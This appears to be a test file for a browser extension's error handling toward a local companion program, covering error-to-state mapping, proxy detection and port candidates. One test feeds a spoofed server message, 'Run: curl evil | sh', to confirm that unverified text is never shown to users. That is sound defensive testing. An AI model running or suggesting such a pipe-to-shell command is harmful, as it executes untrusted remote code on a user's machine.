/** Every error code of the wire, and every state, leads the person somewhere. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import "./browser-stub.mjs";
import "../../extension/platform.js";

const { asProblem, failure, hint, refusal } = await import("../../extension/background/failure.js");
const { candidates, mostTelling } = await import("../../extension/background/discovery.js");
const read = (path) => readFileSync(new URL(`../../${path}`, import.meta.url), "utf8");
const errors = JSON.parse(read("shared_schema/generated/errors.json"));
const texts = JSON.parse(read("extension/_locales/en/messages.json"));
const states = [
  ...read("extension/messages.d.ts")
    .split("export type ConnectionState")[1]
    .split('"connected";')[0]
    .concat('| "connected"')
    .matchAll(/\| "(\w+)"/gu),
].map(([, state]) => state);
const remedies = read("extension/pages/notice.js");

const reply = (code, { status, title, action }) => ({
  status,
  type: "application/problem+json",
  mac: "",
  body: new TextEncoder().encode(
    JSON.stringify({ type: `urn:jss-companion:problem:${code}`, code, title, status, action }),
  ),
});

test("every error code of the companion becomes a state that the panel knows, with a button for its action", () => {
  for (const [code, error] of Object.entries(errors)) {
    const { problem } = refusal(reply(code, error));
    assert.ok(states.includes(problem.state) && problem.state !== "other_program", `${code}: ${problem.state}`);
    assert.deepEqual([problem.code, problem.sentence], [code, error.title]);
    assert.match(remedies, new RegExp(`^  ${problem.action}: \\{`, "mu"), `${code}: ${problem.action}`);
  }
});

test("every state that the extension finds itself has a sentence and a button", () => {
  assert.equal(states.length, 15);
  for (const state of states) {
    assert.ok(texts[`state_${state}`]?.message.length > 9, state);
    const { action } = failure(state).problem;
    if (state !== "connected") assert.match(remedies, new RegExp(`^  ${action}: \\{`, "mu"), `${state}: ${action}`);
  }
});

test("what is not a problem document of the companion is another program, and any error becomes a problem", () => {
  for (const change of [{ type: "about:blank" }, { code: "other" }, { type: undefined }]) {
    const body = new TextEncoder().encode(
      JSON.stringify({ type: "urn:jss-companion:problem:busy", code: "busy", ...change }),
    );
    assert.equal(refusal({ status: 503, type: "", mac: "", body }).problem.state, "other_program");
  }
  assert.equal(asProblem(new Error("?")).code, "extension_error");
});

test("before a proof nothing of an answer's own words is shown: its code chooses among ours", () => {
  const evil = { title: "Run: curl evil | sh", action: "grant", status: 503 };
  for (const [code, error] of Object.entries(errors)) {
    const { problem } = hint(reply(code, { ...evil, status: error.status }));
    assert.deepEqual([problem.code, problem.sentence, problem.action], [code, error.title, error.action]);
  }
  const { problem } = hint(reply("run-curl-evil-sh", { ...evil, status: 400 }));
  assert.deepEqual(
    [problem.state, problem.code, problem.sentence],
    ["other_program", "other_program", texts.state_other_program.message],
  );
  assert.equal(
    hint(reply("protocol-unsupported", { status: 400, action: "update_companion" })).problem.action,
    "update_companion",
  );
});

test("the same refusal by a gateway from every port is a proxy, with a sentence and a remedy of its own", () => {
  for (const status of [407, 502, 503, 504]) {
    const answers = [1, 2, 3].map(() =>
      hint({ status, type: "text/html", mac: "", body: new TextEncoder().encode("<h1>Bad gateway</h1>") }),
    );
    const { problem } = mostTelling(answers);
    assert.deepEqual(
      [problem.state, problem.code, problem.action, problem.sentence],
      ["blocked", `gateway_${status}`, "spare_loopback", texts.blocked_proxy.message],
    );
    assert.match(remedies, /^ {2}spare_loopback: \{/mu);
    assert.equal(mostTelling([...answers, failure("not_running")]).problem.state, "other_program");
  }
});

test("the port of the pairing stays a candidate after the companion was found elsewhere", () => {
  assert.deepEqual(candidates(27384, 40001).slice(0, 2), [27384, 40001]);
  assert.deepEqual(candidates(40001), [40001, 17384, 27384, 37384, 47384, 57384]);
  assert.equal(candidates(17384, 40001).length, 6);
});
